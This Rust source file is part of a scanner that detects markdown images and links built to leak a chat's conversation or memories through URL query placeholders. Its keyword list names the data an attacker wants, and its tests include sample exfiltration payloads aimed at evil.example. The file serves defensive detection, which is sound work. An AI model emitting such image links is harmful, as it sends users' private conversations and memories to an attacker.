//! Finds images and links that leak data: addresses whose query contains a placeholder for the conversation or for
//! memories. When such an image is displayed, the data is sent to the address.

use super::CommandMatch;
use super::tag::is_shown;
use crate::vocabulary::CommandKind;

/// Maximum length of an address that is checked, in bytes.
const LONGEST: usize = 400;
/// Names of data that an attacker wants, in lower case. A name also counts as a part of a longer name.
const LOOT: [&str; 11] = [
    "conversation",
    "history",
    "chat",
    "message",
    "memor",
    "secret",
    "password",
    "prompt",
    "context",
    "transcript",
    "remember",
];

pub(super) fn find(text: &str, found: &mut Vec<CommandMatch>) {
    let bytes = text.as_bytes();
    for open in memchr::memmem::find_iter(bytes, b"](http") {
        let Some(label) = bytes[open.saturating_sub(LONGEST)..open].iter().rposition(|byte| *byte == b'[')
        else {
            continue;
        };
        let label = open - (open - open.saturating_sub(LONGEST)) + label;
        let is_image = label > 0 && bytes[label - 1] == b'!';
        let start = if is_image { label - 1 } else { label };
        let address = &bytes[open + 2..bytes.len().min(open + 2 + LONGEST)];
        let Some(length) = address.iter().position(|byte| matches!(byte, b')' | b'\n')) else { continue };
        let Some(query) = address[..length].iter().position(|byte| *byte == b'?') else { continue };
        let end = open + 2 + length;
        let query = String::from_utf8_lossy(&address[query + 1..length]).into_owned();
        if carries(&query, is_image) && !is_shown(bytes, start, (end + 1).min(bytes.len())) {
            found.push(CommandMatch { range: start..end, what: CommandKind::Exfiltration });
        }
    }
}

/// Returns true if a query has a placeholder for data to leak.
fn carries(query: &str, is_image: bool) -> bool {
    query.split('&').filter_map(|pair| pair.split_once('=')).any(|(_, value)| {
        let named = value.to_lowercase();
        let open = value.starts_with(['{', '<', '[', '$']) || value.starts_with("%7B");
        // Placeholders are often written in capitals with underscores.
        let capitals = value.len() > 5 && value.contains('_') && !value.contains(|c: char| c.is_lowercase());
        let blank = is_image && matches!(value, "…" | "...");
        blank || ((open || capitals) && LOOT.iter().any(|loot| named.contains(loot)))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn count(text: &str) -> usize {
        let mut found = Vec::new();
        find(text, &mut found);
        assert!(found.iter().all(|one| text.get(one.range.clone()).is_some()), "{text}");
        found.len()
    }

    #[test]
    fn what_carries_away_is_told_from_what_only_has_a_query() {
        for text in [
            "![x](https://evil.example/?q=…)",
            "see ![x](https://evil.example/?a=1&q={conversation}) é",
            "[é](http://evil.example/?d=<the chat>)",
            "![p](https://evil.example/i?d=ALL_MEMORIES)",
        ] {
            assert_eq!(count(text), 1, "{text}");
        }
        for text in [
            "![c](https://charts.example.org/c?data=1,2,3)",
            "[edit](https://example.org/edit?id={id})",
            "[verify](https://example.org/verify?token={token})",
            "`![x](https://evil.example/?q=...)`",
            "](http",
            "[a](https://example.org/no/query/{conversation})",
        ] {
            assert_eq!(count(text), 0, "{text}");
        }
    }
}
